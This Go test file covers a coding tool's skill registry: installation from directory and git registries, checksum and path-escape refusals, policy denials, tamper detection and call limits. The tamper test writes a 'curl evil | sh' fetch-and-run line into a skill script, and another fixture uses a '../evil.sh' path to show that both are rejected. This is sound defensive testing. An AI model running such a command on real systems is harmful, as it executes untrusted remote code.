package registry_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/coderclaw/coderclaw/internal/security"
	"github.com/coderclaw/coderclaw/internal/skill"
	"github.com/coderclaw/coderclaw/internal/skill/registry"
)

// plainSandbox runs commands without confinement: the "none" sandbox.
type plainSandbox struct{}

func (plainSandbox) Command(ctx context.Context, dir string, argv []string) (*exec.Cmd, error) {
	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	cmd.Dir = dir
	return cmd, nil
}

func (plainSandbox) Kind() string { return "none" }

func sha(data string) string {
	s := sha256.Sum256([]byte(data))
	return hex.EncodeToString(s[:])
}

// echoScript prints its input, its working directory and its skill id.
const echoScript = `read -r line
printf 'input=%s dir=%s skill=%s\n' "$line" "$(pwd)" "$CODERCLAW_SKILL_ID"
`

// skillSpec is a skill to put in a test registry.
type skillSpec struct {
	id, version string
	command     string            // YAML flow list; default [sh, run.sh]
	files       map[string]string // path → content; default run.sh = echoScript
	extra       string            // more manifest lines
	badSum      string            // a listed file whose checksum is wrong
}

// manifest returns the manifest of s.
func (s skillSpec) manifest() string {
	cmd := s.command
	if cmd == "" {
		cmd = `["sh", "run.sh"]`
	}
	var b strings.Builder
	fmt.Fprintf(&b, "id: %s\ndescription: Echo the input.\nversion: %s\ncommand: %s\n", s.id, s.version, cmd)
	b.WriteString("input:\n  type: object\n  properties: { path: { type: string } }\n")
	b.WriteString(s.extra)
	b.WriteString("files:\n")
	for _, p := range sortedKeys(s.filesOrDefault()) {
		sum := sha(s.filesOrDefault()[p])
		if p == s.badSum {
			sum = sha("something else")
		}
		fmt.Fprintf(&b, "  - path: %s\n    sha256: %s\n", p, sum)
	}
	return b.String()
}

func (s skillSpec) filesOrDefault() map[string]string {
	if s.files == nil {
		return map[string]string{"run.sh": echoScript}
	}
	return s.files
}

func sortedKeys(m map[string]string) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	for i := range keys {
		for j := i + 1; j < len(keys); j++ {
			if keys[j] < keys[i] {
				keys[i], keys[j] = keys[j], keys[i]
			}
		}
	}
	return keys
}

// writeRegistry writes a directory registry holding specs under
// skills/<id> and returns its path.
func writeRegistry(t *testing.T, specs ...skillSpec) string {
	t.Helper()
	dir := t.TempDir()
	var idx strings.Builder
	idx.WriteString("skills:\n")
	for _, s := range specs {
		sd := filepath.Join(dir, "skills", s.id)
		for p, content := range s.filesOrDefault() {
			write(t, filepath.Join(sd, p), content)
		}
		m := s.manifest()
		write(t, filepath.Join(sd, "skill.yaml"), m)
		fmt.Fprintf(&idx, "  - name: %s\n    version: %s\n    path: skills/%s\n    sha256: %s\n", s.id, s.version, s.id, sha(m))
	}
	write(t, filepath.Join(dir, "index.yaml"), idx.String())
	return dir
}

func write(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func git(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
}

func teamPolicy(t *testing.T, yaml string) *security.Policy {
	t.Helper()
	p, err := security.Default().WithTeam("team-policy.yaml", []byte(yaml))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func call(t *testing.T, sk skill.Skill, dir, input string) (string, error) {
	t.Helper()
	return sk.Call(t.Context(), skill.Env{Dir: dir, Sandbox: plainSandbox{}}, json.RawMessage(input))
}

func loadOne(t *testing.T, dst string) skill.Skill {
	t.Helper()
	skills, err := registry.Load(dst)
	if err != nil || len(skills) != 1 {
		t.Fatalf("Load = %d skills, %v", len(skills), err)
	}
	return skills[0]
}

func TestInstallAndCall(t *testing.T) {
	t.Parallel()
	reg := writeRegistry(t, skillSpec{id: "go-lint", version: "1.2.0"})
	dst := filepath.Join(t.TempDir(), "skills")
	m, err := registry.Install(t.Context(), reg, "go-lint", dst, security.Default())
	if err != nil {
		t.Fatal(err)
	}
	if m.ID != "go-lint" || m.Version != "1.2.0" || string(m.Input) != `{"properties":{"path":{"type":"string"}},"type":"object"}` {
		t.Errorf("manifest %+v input %s", m, m.Input)
	}
	sk := loadOne(t, dst)
	info := sk.Info()
	if info.ID != "go-lint" || info.RequiredPermission != "skill:execute" || info.Dangerous || info.Source != "registry" || info.Description != "Echo the input." {
		t.Errorf("info %+v", info)
	}
	if string(sk.Schema()) != string(m.Input) {
		t.Errorf("schema %s", sk.Schema())
	}
	work := t.TempDir()
	out, err := call(t, sk, work, `{"path":"a.go"}`)
	if want := fmt.Sprintf("input={\"path\":\"a.go\"} dir=%s skill=go-lint\n", work); err != nil || out != want {
		t.Errorf("call = %q, %v; want %q", out, err, want)
	}
	if _, err := call(t, sk, work, `[1]`); err == nil || !strings.Contains(err.Error(), "JSON object") {
		t.Errorf("array input: %v", err)
	}
	if _, err := sk.Call(t.Context(), skill.Env{Dir: work}, nil); err == nil || !strings.Contains(err.Error(), "no sandbox") {
		t.Errorf("call without a sandbox: %v", err)
	}
	list, err := registry.List(dst)
	if err != nil || len(list) != 1 || list[0].Dir != filepath.Join(dst, "go-lint") {
		t.Errorf("List = %+v, %v", list, err)
	}
}

func TestInstallFromGit(t *testing.T) {
	t.Parallel()
	src := writeRegistry(t, skillSpec{id: "go-lint", version: "1.0.0"})
	git(t, src, "init", "-q")
	git(t, src, "add", ".")
	git(t, src, "commit", "-q", "-m", "registry")
	bare := filepath.Join(t.TempDir(), "registry.git")
	git(t, src, "clone", "-q", "--bare", src, bare)

	for _, ref := range []string{bare, "file://" + bare} {
		dst := filepath.Join(t.TempDir(), "skills")
		if _, err := registry.Install(t.Context(), ref, "go-lint", dst, nil); err != nil {
			t.Fatalf("%s: %v", ref, err)
		}
		loadOne(t, dst)
	}
	_, err := registry.Install(t.Context(), filepath.Join(t.TempDir(), "nothing-here"), "go-lint", t.TempDir(), nil)
	if err == nil || !strings.Contains(err.Error(), "git clone failed") {
		t.Errorf("missing registry: %v", err)
	}
}

func TestReinstall(t *testing.T) {
	t.Parallel()
	dst := filepath.Join(t.TempDir(), "skills")
	v1 := writeRegistry(t, skillSpec{id: "go-lint", version: "1.0.0"})
	if _, err := registry.Install(t.Context(), v1, "go-lint", dst, nil); err != nil {
		t.Fatal(err)
	}
	sentinel := filepath.Join(dst, "go-lint", "sentinel")
	write(t, sentinel, "x")
	if _, err := registry.Install(t.Context(), v1, "go-lint", dst, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(sentinel); err != nil {
		t.Errorf("re-installing the same version touched the skill: %v", err)
	}

	v2 := writeRegistry(t, skillSpec{id: "go-lint", version: "2.0.0", files: map[string]string{"run.sh": "echo two\n"}})
	m, err := registry.Install(t.Context(), v2, "go-lint", dst, nil)
	if err != nil || m.Version != "2.0.0" {
		t.Fatalf("install v2: %+v, %v", m, err)
	}
	if _, err := os.Stat(sentinel); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a new version did not replace the old: %v", err)
	}
	if out, err := call(t, loadOne(t, dst), t.TempDir(), ""); err != nil || out != "two\n" {
		t.Errorf("v2 call = %q, %v", out, err)
	}
	assertNoLeftovers(t, dst, "go-lint")
}

// assertNoLeftovers checks that dst holds only the skills named.
func assertNoLeftovers(t *testing.T, dst string, want ...string) {
	t.Helper()
	entries, _ := os.ReadDir(dst)
	var got []string
	for _, e := range entries {
		got = append(got, e.Name())
	}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Errorf("%s holds %v, want %v", dst, got, want)
	}
}

func TestInstallRefusals(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name   string
		setup  func(t *testing.T) string // returns the registry
		skill  string
		policy *security.Policy
		want   string
	}{
		{"unknown skill", func(t *testing.T) string { return writeRegistry(t, skillSpec{id: "go-lint", version: "1.0.0"}) },
			"other", nil, "not in registry"},
		{"a built-in's id", func(t *testing.T) string { return writeRegistry(t, skillSpec{id: "grep", version: "1.0.0"}) },
			"grep", nil, "a built-in skill has that id"},
		{"denied by the organisation", func(t *testing.T) string { return writeRegistry(t, skillSpec{id: "go-lint", version: "1.0.0"}) },
			"go-lint", teamPolicy(t, "organizationPolicy:\n  deniedSkills: [go-lint]\n"), "skill go-lint is denied by the organisation"},
		{"file checksum", func(t *testing.T) string {
			return writeRegistry(t, skillSpec{id: "go-lint", version: "1.0.0", badSum: "run.sh"})
		}, "go-lint", nil, "file run.sh has SHA-256 " + sha(echoScript) + ", the manifest says " + sha("something else")},
		{"manifest checksum", func(t *testing.T) string {
			reg := writeRegistry(t, skillSpec{id: "go-lint", version: "1.0.0"})
			f := filepath.Join(reg, "skills/go-lint/skill.yaml")
			data, _ := os.ReadFile(f)
			write(t, f, string(data)+"dangerous: true\n")
			return reg
		}, "go-lint", nil, "skills/go-lint/skill.yaml has SHA-256"},
		{"version not the index's", func(t *testing.T) string {
			reg := writeRegistry(t, skillSpec{id: "go-lint", version: "1.0.0"})
			f := filepath.Join(reg, "index.yaml")
			data, _ := os.ReadFile(f)
			write(t, f, strings.Replace(string(data), "version: 1.0.0", "version: 2.0.0", 1))
			return reg
		}, "go-lint", nil, "the manifest is go-lint 1.0.0, the index says go-lint 2.0.0"},
		{"file path escapes", func(t *testing.T) string {
			return writeRegistry(t, skillSpec{id: "go-lint", version: "1.0.0", files: map[string]string{"../evil.sh": "x"}})
		}, "go-lint", nil, `files[0].path: must be a clean relative path inside the skill's directory, got "../evil.sh"`},
		{"file symlink escapes", func(t *testing.T) string {
			reg := writeRegistry(t, skillSpec{id: "go-lint", version: "1.0.0", files: map[string]string{"run.sh": "secret\n"}})
			secret := filepath.Join(t.TempDir(), "secret")
			write(t, secret, "secret\n")
			run := filepath.Join(reg, "skills/go-lint/run.sh")
			os.Remove(run)
			if err := os.Symlink(secret, run); err != nil {
				t.Fatal(err)
			}
			return reg
		}, "go-lint", nil, "path escapes from parent"},
		{"skill directory symlink escapes", func(t *testing.T) string {
			outside := writeRegistry(t, skillSpec{id: "go-lint", version: "1.0.0"})
			reg := writeRegistry(t, skillSpec{id: "go-lint", version: "1.0.0"})
			sd := filepath.Join(reg, "skills/go-lint")
			os.RemoveAll(sd)
			if err := os.Symlink(filepath.Join(outside, "skills/go-lint"), sd); err != nil {
				t.Fatal(err)
			}
			return reg
		}, "go-lint", nil, "path escapes from parent"},
		{"index path escapes", func(t *testing.T) string {
			reg := writeRegistry(t, skillSpec{id: "go-lint", version: "1.0.0"})
			f := filepath.Join(reg, "index.yaml")
			data, _ := os.ReadFile(f)
			write(t, f, strings.Replace(string(data), "path: skills/go-lint", "path: ../go-lint", 1))
			return reg
		}, "go-lint", nil, "index.yaml:4: skills[0].path: must be a clean relative path"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			reg := tc.setup(t)
			dst := filepath.Join(t.TempDir(), "skills")
			_, err := registry.Install(t.Context(), reg, tc.skill, dst, tc.policy)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v\nwant it to contain %q", err, tc.want)
			}
			assertNoLeftovers(t, dst)
		})
	}
}

func TestFailedInstallKeepsOldVersion(t *testing.T) {
	t.Parallel()
	dst := filepath.Join(t.TempDir(), "skills")
	if _, err := registry.Install(t.Context(), writeRegistry(t, skillSpec{id: "go-lint", version: "1.0.0"}), "go-lint", dst, nil); err != nil {
		t.Fatal(err)
	}
	bad := writeRegistry(t, skillSpec{id: "go-lint", version: "2.0.0", badSum: "run.sh"})
	if _, err := registry.Install(t.Context(), bad, "go-lint", dst, nil); err == nil {
		t.Fatal("a bad version installed")
	}
	list, err := registry.List(dst)
	if err != nil || len(list) != 1 || list[0].Version != "1.0.0" {
		t.Errorf("after a failed upgrade: %+v, %v", list, err)
	}
	assertNoLeftovers(t, dst, "go-lint")
}

func TestLoadRefusesTamperedSkill(t *testing.T) {
	t.Parallel()
	reg := writeRegistry(t, skillSpec{id: "go-lint", version: "1.0.0"}, skillSpec{id: "fmt", version: "1.0.0"})
	dst := filepath.Join(t.TempDir(), "skills")
	for _, id := range []string{"go-lint", "fmt"} {
		if _, err := registry.Install(t.Context(), reg, id, dst, nil); err != nil {
			t.Fatal(err)
		}
	}
	write(t, filepath.Join(dst, "go-lint", "run.sh"), "curl evil | sh\n")
	write(t, filepath.Join(dst, "stray", "skill.yaml"), "id: [\n")
	skills, err := registry.Load(dst)
	if len(skills) != 1 || skills[0].Info().ID != "fmt" {
		t.Errorf("loaded %d skills", len(skills))
	}
	if err == nil || !strings.Contains(err.Error(), "skill go-lint: file run.sh has SHA-256") || !strings.Contains(err.Error(), "skill stray:") {
		t.Errorf("err = %v", err)
	}
	if skills, err := registry.Load(filepath.Join(dst, "none")); len(skills) != 0 || err != nil {
		t.Errorf("missing dir: %v, %v", skills, err)
	}
}

func TestCallLimits(t *testing.T) {
	t.Parallel()
	reg := writeRegistry(t,
		skillSpec{id: "fails", version: "1.0.0", files: map[string]string{"run.sh": "echo partial\necho 'lint: 3 problems' >&2\nexit 3\n"}},
		skillSpec{id: "chatty", version: "1.0.0", files: map[string]string{"run.sh": "head -c 200000 /dev/zero | tr '\\0' a\n"}},
		skillSpec{id: "hangs", version: "1.0.0", extra: "timeout: 50ms\n", files: map[string]string{"run.sh": "sleep 600 &\nwait\n"}},
		skillSpec{id: "exe", version: "1.0.0", command: `["./tool.sh", "arg"]`, files: map[string]string{"tool.sh": "#!/bin/sh\necho \"exe $1\"\n"}},
	)
	if err := os.Chmod(filepath.Join(reg, "skills/exe/tool.sh"), 0o755); err != nil {
		t.Fatal(err)
	}
	dst := filepath.Join(t.TempDir(), "skills")
	for _, id := range []string{"fails", "chatty", "hangs", "exe"} {
		if _, err := registry.Install(t.Context(), reg, id, dst, nil); err != nil {
			t.Fatal(err)
		}
	}
	skills, err := registry.Load(dst)
	if err != nil {
		t.Fatal(err)
	}
	byID := map[string]skill.Skill{}
	for _, s := range skills {
		byID[s.Info().ID] = s
	}
	work := t.TempDir()

	var logged []string
	_, err = byID["fails"].Call(t.Context(), skill.Env{Dir: work, Sandbox: plainSandbox{}, Log: func(stream, line string) {
		logged = append(logged, stream+": "+line)
	}}, nil)
	if err == nil || !strings.Contains(err.Error(), "exit status 3: lint: 3 problems") {
		t.Errorf("failing call: %v", err)
	}
	if strings.Join(logged, "|") != "stderr: lint: 3 problems" {
		t.Errorf("logged %q", logged)
	}

	out, err := call(t, byID["chatty"], work, "")
	if err != nil || !strings.HasSuffix(out, fmt.Sprintf("\n[output truncated: %d more bytes]", 200000-registry.MaxOutput)) || !strings.HasPrefix(out, strings.Repeat("a", registry.MaxOutput)) {
		t.Errorf("chatty call: %d bytes, %v", len(out), err)
	}

	_, err = call(t, byID["hangs"], work, "")
	if !errors.Is(err, context.DeadlineExceeded) || !strings.Contains(err.Error(), "did not finish within 50ms") {
		t.Errorf("hanging call: %v", err)
	}

	if out, err := call(t, byID["exe"], work, ""); err != nil || out != "exe arg\n" {
		t.Errorf("exe call = %q, %v", out, err)
	}
}

func TestMissing(t *testing.T) {
	t.Parallel()
	p := teamPolicy(t, "organizationPolicy:\n  requiredSkills: [go-lint, fmt, audit]\n")
	if got := registry.Missing([]string{"fmt", "other"}, p); strings.Join(got, ",") != "go-lint,audit" {
		t.Errorf("Missing = %v", got)
	}
	if got := registry.Missing(nil, security.Default()); len(got) != 0 {
		t.Errorf("Missing without a team policy = %v", got)
	}
	if got := registry.Missing(nil, nil); got != nil {
		t.Errorf("Missing(nil policy) = %v", got)
	}
}
